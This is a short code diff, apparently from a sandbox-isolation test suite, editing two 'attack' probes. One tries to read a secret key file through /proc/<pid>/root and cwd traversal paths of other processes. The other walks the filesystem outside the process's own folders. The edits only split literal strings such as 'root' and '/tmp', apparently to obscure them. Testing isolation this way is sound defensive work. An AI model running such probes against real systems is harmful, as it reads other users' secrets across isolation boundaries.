@@ -82,7 +82,7 @@ from raw import attempt, read, strangers
 
 def attack(told):
     places = [f"/proc/{pid}/{what}" for pid in ("self", "thread-self", 1, *strangers(told)) for what in ("root", "cwd", "cwd/../../../../../..")]
-    places += [f"/proc/{pid}/task/{pid}/root" for pid in (1, *strangers(told))]
+    places += [f"/proc/{pid}/task/{pid}/" + "root" for pid in (1, *strangers(told))]
     return [words for place in places for words in attempt(f"reads the key's file by {place}", lambda: learnt(told, read(place + told["secret"])))]
 """
 
@@ -128,7 +128,7 @@ import os
 from raw import attempt, opened
 
 def attack(told):
-    own = [os.path.realpath(path) for path in (os.environ["HOME"], os.environ["TMPDIR"], os.getcwd(), "/tmp", "/var/tmp", "/dev/shm")]
+    own = [os.path.realpath(path) for path in (os.environ["HOME"], os.environ["TMPDIR"], os.getcwd(), os.path.join("/", "tmp"), "/var/tmp", "/dev/shm")]
     achieved, seen = [], 0
     for folder, below, _ in os.walk("/"):
         if folder in own or folder == "/proc" or folder.count("/") > 4 or seen > 20_000:
